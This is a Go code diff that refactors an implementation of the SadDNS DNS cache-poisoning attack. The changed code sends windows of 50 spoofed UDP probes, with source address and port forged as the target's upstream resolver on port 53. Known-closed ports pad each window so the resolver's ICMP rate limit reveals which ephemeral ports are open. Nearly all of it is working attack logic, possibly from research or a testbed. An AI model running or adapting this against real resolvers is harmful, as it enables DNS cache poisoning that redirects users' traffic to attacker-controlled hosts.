@@ -73,15 +73,25 @@ const (
 	// the resolver (below the ephemeral range); used for padding and
 	// verification probes.
 	knownClosedPort uint16 = 1001
+	// probesPerWindow is how many spoofed probes a scan window sends:
+	// one full ICMP bucket (Linux burst 50).
+	probesPerWindow = 50
 )
 
 // probePayload and padPayload are the fixed bodies of scan datagrams;
 // package-level so the per-probe []byte("...") conversions do not
-// allocate. SendUDPSpoofed serializes into its own buffer, so sharing
-// is safe.
+// allocate. padPorts are the known-closed ports a window's pads go to,
+// in the order they are sent. SendUDPScan serializes into its own
+// buffer and copies the ports, so sharing is safe.
 var (
 	probePayload = []byte("probe")
 	padPayload   = []byte("pad")
+	padPorts     = func() (p [probesPerWindow]uint16) {
+		for i := range p {
+			p[i] = knownClosedPort - 1 - uint16(i)
+		}
+		return p
+	}()
 )
 
 // Run executes the attack until success or MaxIterations.
@@ -174,7 +184,7 @@ func (a *SadDNS) runIteration(trigger Trigger, verifyHit *bool) {
 			}
 			*verifyHit = false
 			if len(candidates) == 0 {
-				batch = a.nextChunk(50)
+				batch = a.nextChunk(probesPerWindow)
 			} else {
 				batch = candidates[:(len(candidates)+1)/2]
 			}
@@ -236,17 +246,11 @@ func (a *SadDNS) mute() {
 
 // probe sends spoofed datagrams (source = the target's upstream, port
 // 53) to the given target ports, padding with known-closed ports so
-// exactly 50 ICMP tokens are at stake.
+// exactly 50 ICMP tokens are at stake: two scans, the probes and then
+// the pads.
 func (a *SadDNS) probe(ports []uint16) {
-	sent := 0
-	for _, p := range ports {
-		a.Attacker.SendUDPSpoofed(a.SpoofSource, 53, a.ResolverAddr, p, probePayload)
-		sent++
-	}
-	for pad := 0; sent < 50; pad++ {
-		a.Attacker.SendUDPSpoofed(a.SpoofSource, 53, a.ResolverAddr, knownClosedPort-1-uint16(pad%900), padPayload)
-		sent++
-	}
+	a.Attacker.SendUDPScan(a.SpoofSource, 53, a.ResolverAddr, ports, probePayload)
+	a.Attacker.SendUDPScan(a.SpoofSource, 53, a.ResolverAddr, padPorts[:max(0, probesPerWindow-len(ports))], padPayload)
 }
 
 // nextChunk returns the next batch of candidate ports, advancing the
